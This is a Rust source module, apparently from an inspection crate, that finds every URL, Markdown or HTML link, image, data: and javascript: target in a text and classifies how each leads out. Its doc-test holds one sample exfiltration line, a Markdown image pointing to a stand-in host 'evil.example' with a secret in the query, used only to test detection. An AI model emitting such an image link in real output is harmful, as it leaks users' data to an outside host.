//! Where a text leads: every place that it names, links to, or makes a reader's program fetch.
//!
//! Found are URLs with a scheme and without, links and images of Markdown (inline, by reference, in angle brackets),
//! attributes of HTML that name a place (`href`, `src`, `srcset`, `style`, `action`, `<base>`, the refresh of `<meta>` and
//! others), `url(…)` of CSS, `data:` and `javascript:`. Three readers go over the text, each once and from left to right: what
//! one of them has taken it does not read again, so that time grows with the text alone. A place may be found by two of
//! them; the reader that tells more about it comes first.
//!
//! Nothing is decided here, and nothing is fetched. What a host looks like is [`resembles`]'s part.
//!
//! Absent on purpose: rendering. Where programs differ in what they take for a link, it is one here.

mod host;
mod html;
mod markdown;

use std::borrow::Cow;
use std::ops::Range;

use crate::normal::{self, Value};

pub use host::{Place, belongs, place, resembles};

/// How a text leads there.
#[derive(Clone, Copy, Debug, Eq, Hash, Ord, PartialEq, PartialOrd)]
#[non_exhaustive]
pub enum Way {
    /// Whoever shows the text fetches it by itself: an image, a style, a frame, a refresh.
    Load,
    /// Somebody may follow it: a link, a form.
    Link,
    /// It stands in the text.
    Plain,
    /// It carries its content with it: `data:`.
    Data,
    /// It is a program: `javascript:`, `vbscript:`.
    Script,
}

/// A place that a text leads to.
#[derive(Clone, Debug, Eq, PartialEq)]
#[non_exhaustive]
pub struct Target<'t> {
    /// How.
    pub way: Way,
    /// Where it stands, in bytes.
    pub span: Range<usize>,
    /// Where it leads to, references of HTML undone, white space within taken out as browsers do.
    pub text: Cow<'t, str>,
}

/// What was found in a text.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
#[non_exhaustive]
pub struct Targets<'t> {
    /// In the order of their places; of those at one place the one that tells more first.
    pub found: Vec<Target<'t>>,
    /// Whether there are more of them than are given.
    pub cut: bool,
}

/// Most targets that are given of one text.
pub const TARGETS_MAX: usize = 1024;
/// Most bytes of one target that are read; what is longer is given cut.
pub const TARGET_BYTES_MAX: usize = 16 * 1024;

/// Finds where a text leads.
///
/// ```
/// use alcaide_inspect::links::{Way, targets};
///
/// let found = targets("see ![plan](//evil.example/p?d=secret) and example.com/a").found;
/// assert_eq!((found[0].way, &*found[0].text), (Way::Load, "//evil.example/p?d=secret"));
/// assert_eq!((found[1].way, &*found[1].text), (Way::Plain, "example.com/a"));
/// ```
#[must_use]
pub fn targets(text: &str) -> Targets<'_> {
    let mut out = Out { targets: Targets::default() };
    markdown::read(text, &mut out);
    html::read(text, &mut out);
    plain(text, &mut out);
    let mut targets = out.targets;
    targets.found.sort_by_key(|target| (target.span.start, target.way));
    // A place that two readers found is one, also where the later leaves out what stands before the host.
    targets.found.dedup_by(|later, first| {
        let part = later.way == Way::Plain && first.text.ends_with(&*later.text);
        (part || later.text == first.text)
            && first.span.start <= later.span.start
            && later.span.end <= first.span.end
    });
    targets
}

/// URLs as they stand in a text, and what a browser takes for one.
fn plain<'t>(text: &'t str, out: &mut Out<'t>) {
    for found in normal::each_value(text) {
        if matches!(found.value, Value::Url(_)) && !out.take(text, Way::Plain, found.span) {
            return;
        }
    }
    for at in memchr::memchr_iter(b':', text.as_bytes()) {
        let before = text.get(..at).unwrap_or_default();
        let letters = before.bytes().rev().take(10).take_while(u8::is_ascii_alphabetic).count();
        let scheme = before.get(at.saturating_sub(letters)..).unwrap_or_default();
        if !["data", "javascript", "vbscript"].iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
            continue;
        }
        let end = word_end(text, at);
        // A colon at the end of a word says nothing.
        if end > at.saturating_add(1) && !out.take(text, Way::Plain, at.saturating_sub(letters)..end) {
            return;
        }
    }
}

/// Where the run without white space, quotes and angle brackets ends that holds the byte at `at`.
fn word_end(text: &str, at: usize) -> usize {
    let rest = text.get(at..).unwrap_or_default();
    let length = rest
        .char_indices()
        .take_while(|(place, c)| {
            *place < TARGET_BYTES_MAX && !c.is_whitespace() && !matches!(c, '"' | '\'' | '<' | '>' | '`')
        })
        .last()
        .map_or(0, |(place, c)| place.saturating_add(c.len_utf8()));
    at.saturating_add(length)
}

/// What has been found.
struct Out<'t> {
    targets: Targets<'t>,
}

impl<'t> Out<'t> {
    /// Takes a place of the text; `false` once there is no room.
    fn take(&mut self, text: &'t str, way: Way, span: Range<usize>) -> bool {
        if self.targets.found.len() >= TARGETS_MAX {
            self.targets.cut = true;
            return false;
        }
        let mut end = span.end.min(span.start.saturating_add(TARGET_BYTES_MAX));
        while !text.is_char_boundary(end) {
            end = end.saturating_sub(1);
        }
        let span = span.start..end;
        let Some(given) = text.get(span.clone()) else { return true };
        let target = cleaned(given);
        if target.is_empty() {
            return true;
        }
        let way = match scheme_of(&target) {
            Some("data") => Way::Data,
            Some("javascript" | "vbscript") => Way::Script,
            _ => way,
        };
        self.targets.found.push(Target { way, span, text: target });
        true
    }
}

/// The schemes that carry what they lead to.
fn scheme_of(target: &str) -> Option<&'static str> {
    let (scheme, _) = target.split_once(':')?;
    ["data", "javascript", "vbscript"].into_iter().find(|known| scheme.eq_ignore_ascii_case(known))
}

/// As a browser reads a place: references undone, controls and white space at its ends gone, tabs and line ends within too.
/// A backslash is a slash there.
///
/// Source: WHATWG, URL Standard, section 4.4 (basic URL parser).
fn cleaned(given: &str) -> Cow<'_, str> {
    let given = given.trim_matches(|c: char| c.is_control() || c == ' ');
    let undone = html::undone(given);
    if !undone.contains(['\t', '\n', '\r', '\\']) {
        return undone;
    }
    let kept = undone.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r'));
    kept.map(|c| if c == '\\' { '/' } else { c }).collect::<String>().into()
}

#[cfg(test)]
mod tests;
